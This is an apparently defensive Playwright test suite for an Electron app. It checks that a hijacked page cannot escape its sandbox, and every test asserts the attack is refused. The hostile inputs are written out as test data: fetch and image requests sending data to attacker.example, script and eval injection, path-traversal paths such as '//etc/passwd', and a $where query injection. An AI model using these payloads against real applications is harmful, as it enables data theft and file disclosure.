import { texts } from './support/acts.ts'
import { expect, test } from './support/test.ts'

/** One test per attack: a page that has been taken over tries to get out. */

test.beforeEach(async ({ page }) => {
  await expect(page.getByRole('heading', { name: texts.signIn.connect.welcome })).toBeVisible()
})

test('attack: the page navigates to another site', async ({ page }) => {
  const before = await page.evaluate(() => location.origin)
  await page.evaluate(() => {
    location.href = 'https://attacker.example/'
  })
  await expect(page.getByRole('heading', { name: texts.signIn.connect.welcome })).toBeVisible()
  expect(await page.evaluate(() => [location.origin, typeof window.kontorist])).toEqual([before, 'object'])
})

test('attack: the page opens a window', async ({ app, page }) => {
  expect(await page.evaluate(() => window.open('https://attacker.example/'))).toBeNull()
  expect(app.windows()).toHaveLength(1)
})

test('attack: an inline script is put into the page', async ({ page }) => {
  const ran = await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.taken = true'
    document.head.append(script)
    return 'taken' in window
  })
  expect(ran).toBe(false)
})

test('attack: text is run as a program', async ({ page }) => {
  const ran = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        // In a task of the page's own: what the test evaluates directly is exempt from the content policy.
        requestAnimationFrame(() => {
          try {
            resolve(String(Function('return true')()))
          } catch (error) {
            resolve((error as Error).name)
          }
        })
      })
  )
  expect(ran).toBe('EvalError')
})

test('attack: the page sends what it knows to another site', async ({ page }) => {
  const sent = await page.evaluate(() => fetch('https://attacker.example/', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused'))
  expect(sent).toBe('refused')
})

test('attack: an image carries data out', async ({ page }) => {
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
        new Image().src = 'https://attacker.example/?x=1'
      })
  )
  expect(blocked).toBe('img-src')
})

test('attack: a frame of another origin is put into the page', async ({ page }) => {
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
        const frame = document.createElement('iframe')
        frame.src = 'https://attacker.example/'
        document.body.append(frame)
      })
  )
  expect(blocked).toBe('frame-src')
})

test('attack: the page reads a file of the computer through the app protocol', async ({ page }) => {
  const statuses = await page.evaluate(() =>
    Promise.all(
      ['/../main/index.js', '/%2e%2e/main/index.js', '/..%2fmain%2findex.js', '//etc/passwd', '/index.html%00'].map((path) =>
        fetch(path).then(
          ({ status }) => status,
          () => 0
        )
      )
    )
  )
  for (const status of statuses) expect([0, 404]).toContain(status)
})

test('attack: the page reaches for Node', async ({ page }) => {
  expect(await page.evaluate(() => ['require', 'process', 'module', 'Buffer', 'ipcRenderer'].filter((name) => name in window))).toEqual([])
})

test('attack: the page puts its own bridge in place of ours', async ({ page }) => {
  const changed = await page.evaluate(() => {
    const before = window.kontorist.call
    try {
      Object.assign(window.kontorist, { call: () => 'taken' })
    } catch {
      // Frozen objects throw in strict mode.
    }
    return window.kontorist.call !== before
  })
  expect(changed).toBe(false)
})

test('attack: the page asks for a call that the contract does not have', async ({ page }) => {
  const answers = await page.evaluate(async () => {
    const call = window.kontorist.call as unknown as (name: string, args: unknown) => Promise<unknown>
    const outcome = (name: string): Promise<string> => call(name, {}).then(() => 'answered', () => 'refused')
    return Promise.all(['electron-store-get-data', '__ELECTRON_LOG__', 'toString', '__proto__', 'lists.everything'].map(outcome))
  })
  expect(answers).toEqual(Array.from({ length: 5 }, () => 'refused'))
})

test('attack: a call is made with arguments that are not of its shape', async ({ page }) => {
  const answer = await page.evaluate(() =>
    window.kontorist.call('lists.rows', { list: '../settings', query: { $where: '1' }, from: -1, to: 1e9 } as never)
  )
  expect(answer).toMatchObject({ ok: false, problem: { code: 'invalid' } })
})

test('attack: the page asks for a permission', async ({ page }) => {
  const answers = await page.evaluate(async () => [
    await Notification.requestPermission(),
    await navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'granted', () => 'denied'),
    await navigator.permissions.query({ name: 'geolocation' }).then(({ state }) => state)
  ])
  expect(answers).toEqual(['denied', 'denied', 'denied'])
})
